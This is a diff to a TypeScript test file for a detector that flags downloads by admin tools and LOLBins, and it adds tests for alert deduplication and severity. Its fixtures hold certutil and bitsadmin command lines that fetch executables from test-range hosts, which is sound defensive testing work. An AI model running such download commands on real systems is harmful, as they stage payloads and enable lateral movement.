@@ -14,7 +14,8 @@ import def from './download-tool.js'
 const ctx: DetectionContext = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }
 const conn = { uid: 'C1', orig_h: '10.0.0.5', orig_p: 50000, resp_h: '198.51.100.7', resp_p: 80, proto: 'tcp' as const }
 
-function http(ua: string, hostName: string, uri: string, mime?: string): HttpEvent {
+/** An HTTP transaction without a response body (HEAD, redirect, truncated capture): judged on the HttpEvent. */
+function http(ua: string, hostName: string, uri: string, mime?: string, bodyLen = 0): HttpEvent {
   return {
     kind: 'http',
     ts: 1700000000,
@@ -26,7 +27,7 @@ function http(ua: string, hostName: string, uri: string, mime?: string): HttpEve
     uri,
     user_agent: ua,
     request_body_len: 0,
-    response_body_len: 1000,
+    response_body_len: bodyLen,
     ...(mime !== undefined ? { resp_mime: mime } : {}),
   }
 }
@@ -93,6 +94,42 @@ test('file event with a download-tool UA and PE content', () => {
   assert.ok(a.score >= 65)
 })
 
+function file(ua: string, type: FileEvent['type'], uri: string): FileEvent {
+  return {
+    kind: 'file',
+    ts: 1700000000,
+    source: 'pcap',
+    ...conn,
+    file_proto: 'http',
+    name: uri.slice(1),
+    direction: 'download',
+    sender_is_orig: false,
+    bytes: 1000,
+    missing_bytes: 0,
+    type,
+    complete: true,
+    head_hex: '3c68746d6c3e',
+    context: { user_agent: ua, host: 'example.net', uri },
+  }
+}
+
+test('one alert per transfer: the FileEvent when the response had a body, the HttpEvent only without one', () => {
+  const inst = def.create(def.params, ctx)
+  // The same transfer seen as an HttpEvent with a body and as its FileEvent: only the FileEvent alerts.
+  assert.deepEqual(run(http('curl/8.5.0', 'example.net', '/index.html', 'text/html', 1000), inst), [])
+  const [f] = run(file('curl/8.5.0', 'text', '/index.html'), inst)
+  assert.ok(f)
+  assert.match(f.identifier, /^download-tool\|file\|/)
+  assert.equal(f.file?.type, 'text')
+  // A plain page fetched by an admin tool is context before the scorer adds never-seen (docs/alerts.md: info).
+  assert.equal(f.severity, 'info')
+  // A LOLBin fetching an executable is high before context; an admin tool fetching one is medium.
+  const [c] = run(file('Microsoft-CryptoAPI/10.0', 'pe', '/a.exe'))
+  const [k] = run(file('curl/8.5.0', 'elf', '/a'))
+  assert.equal(c?.severity, 'high')
+  assert.equal(k?.severity, 'medium')
+})
+
 test('command lines: URL, destination and output in details; internal destination is T1570', () => {
   const [a] = run(proc('certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\p.exe'))
   assert.equal(a?.details?.url, 'http://203.0.113.9/p.exe')
@@ -101,6 +138,8 @@ test('command lines: URL, destination and output in details; internal destinatio
   assert.equal(a?.technique, 'T1105')
   assert.equal(a?.host, 'ws01')
   assert.equal(a?.evidence[0]?.raw, 'certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\p.exe')
+  // A LOLBin download command line with a URL is high (docs/alerts.md).
+  assert.equal(a?.severity, 'high')
   const [l] = run(proc('bitsadmin /transfer j http://10.9.9.9/tool.exe C:\\t.exe'))
   assert.equal(l?.technique, 'T1570')
   assert.equal(l?.tactic, 'lateral-movement')
